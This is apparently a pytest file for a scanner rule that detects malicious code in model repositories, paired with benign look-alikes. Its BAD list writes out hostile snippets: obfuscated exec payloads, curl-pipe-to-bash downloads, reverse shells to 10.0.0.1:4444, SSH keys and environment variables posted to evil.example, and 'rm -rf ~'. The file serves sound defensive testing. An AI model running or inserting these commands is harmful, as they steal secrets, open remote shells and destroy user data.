"""SEC201: what no model needs is found under any name; what ordinary model code does is not."""

# ruff: noqa: E501 (what is judged stands on lines as long as people write them)
from __future__ import annotations

import pytest
from tests.make.code_snippets import snippets
from tests.make.revisions import judged, revision

from assay.finding import Severity

HEAD = "import base64, codecs, ctypes, importlib, json, marshal, os, pty, requests, shutil, socket, subprocess, sys, urllib.request, zlib\n"
FAILING = revision({"modeling_x.py": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"})
PASSING = revision(
    {
        "modeling_x.py": b"import torch\nclass X(torch.nn.Module):\n    def forward(self, x):\n        return x\n",
        "run.sh": b"#!/bin/sh\npython train.py --lr 1e-4 | tee log.txt\n",
    }
)
BAD = [
    "exec(zlib.decompress(base64.b64decode('eJw=')))",
    "exec(codecs.decode('cevag(1)', 'rot13'))",
    "exec(bytes.fromhex('7072').decode())",
    "exec(''.join(chr(c) for c in [112, 114]))",
    "exec(marshal.loads(b'x'))",
    "code = base64.b64decode('eA==').decode()\nf = eval\nf(code)",
    "exec(requests.get('https://evil.example/x.py').text)",
    "exec(urllib.request.urlopen('https://evil.example').read())",
    "def f(self):\n    os.system('curl -s https://evil.example/i | bash')",
    "subprocess.Popen(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'])",
    "subprocess.run('wget https://evil.example/m -O /tmp/m && chmod +x /tmp/m && /tmp/m', shell=True)",
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "getattr(importlib.import_module('sub' + 'process'), 'Popen')(['id'])",
    "__builtins__.__dict__['ex' + 'ec']('1')",
    "globals()['__builtins__'].__dict__['eval']('1')",
    "vars(os)['system']('id')",
    "sys.modules['os'].system('id')",
    "s = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
    "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://evil.example', data=key)",
    "requests.post('https://evil.example', json=dict(os.environ))",
    "requests.get('https://evil.example/?' + json.dumps(dict(os.environ)))",
    "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
    "os.system('rm -rf ~')",
    "ctypes.CDLL(None).system(b'id')",
    "importlib.import_module(base64.b64decode('b3M=').decode())",
    "pickle = __import__('pickle')\npickle.loads(base64.b64decode('gAQu'))",
]
GOOD = [
    "headers = {'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"}\nrequests.get('https://huggingface.co/api', headers=headers)",
    "def image(url):\n    return requests.get(url, stream=True).raw",
    "kernels = zlib.decompress(base64.b64decode('eJw='))\nload_kernels(kernels)",
    "image = base64.b64decode(data['inputs'])",
    "config = json.loads(base64.b64decode(x))",
    "module = importlib.import_module('.x', package=__name__)",
    "cls = getattr(importlib.import_module(name), 'Model')\nmodel = cls(config)",
    "env = os.environ.copy()\nenv['CUDA_VISIBLE_DEVICES'] = '0'\nsubprocess.run(['python', 'train.py'], env=env)",
    "token = os.path.join(folder, 'tokenizer.json')\nopen(token).read()",
    "subprocess.run(['git', 'rev-parse', 'HEAD'])",
    "lib = ctypes.CDLL('libx.so')\nlib.compute(1)",
    "s = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]",
    "cache = os.path.expanduser('~/.cache/huggingface/hub')",
    "os.makedirs(os.path.expanduser('~/.cache/model'), exist_ok=True)",
]


@pytest.mark.parametrize("code", BAD)
def test_what_no_model_needs_is_found(code):
    found = judged("SEC201", revision({"modeling_x.py": (HEAD + code + "\n").encode()}))
    assert found
    assert found[0].severity in (Severity.CRITICAL, Severity.HIGH)


@pytest.mark.parametrize("code", [*GOOD, *(snippet.source for snippet in snippets())])
def test_what_models_and_honest_mistakes_do_is_not(code):
    found = judged("SEC201", revision({"modeling_x.py": (HEAD + code + "\n").encode()}))
    assert [(item.message, item.location) for item in found] == []


def test_scripts_that_fetch_and_run_are_found():
    script = b"#!/bin/bash\n# curl https://a.example | sh\ncurl -s https://evil.example/x | bash\n"
    [finding] = judged("SEC201", revision({"install.sh": script}))
    assert finding.location == "line 3"
    known = b"curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n"
    assert [item.severity for item in judged("SEC201", revision({"install.sh": known}))] == [Severity.LOW]
